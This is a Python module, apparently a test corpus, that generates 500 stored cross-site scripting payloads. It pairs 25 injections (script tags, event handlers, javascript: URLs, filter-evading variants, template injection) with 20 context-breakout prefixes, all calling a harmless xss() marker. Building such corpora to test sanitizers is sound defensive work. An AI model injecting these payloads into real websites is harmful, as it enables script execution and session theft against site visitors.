"""Five hundred ways to make a browser run `xss()`, from texts that somebody stored."""

BASES = (
    "<script>xss()</script>",
    "<sCrIpT>xss()</sCrIpT>",
    "<img src=x onerror=xss()>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script>",
    "<body onload=xss()>",
    "<iframe src=javascript:xss()>",
    "<iframe srcdoc='<img src=x onerror=parent.xss()>'>",
    "<a href=javascript:xss()>x</a>",
    "<a href=' java\tscript:xss()'>x</a>",
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video src=x onerror=xss()>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<form action=javascript:xss()><button>x",
    "<button formaction=javascript:xss()>x",
    "<meta http-equiv=refresh content='0;javascript:xss()'>",
    "<math><mi xlink:href=javascript:xss()>x",
    "<style onload=xss()></style>",
    "<base href=javascript:xss()//>",
    "<p onmouseover=xss()>x</p>",
    " onmouseover=xss() autofocus onfocus=xss() x=",
    "javascript:xss()",
    "{{constructor.constructor('xss()')()}}",
)
# What it breaks out of first.
BEFORE = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "</option></select>",
    "-->", "]]>", "<!--", "<![CDATA[", "<noscript><p title='</noscript>", "<template>",
    "\\u003c/p>", "</p></div></main>", "&lt;/p&gt;", "\u2028", "\u202e", '"};',
)  # fmt: skip
PAYLOADS = [before + base for base in BASES for before in BEFORE]
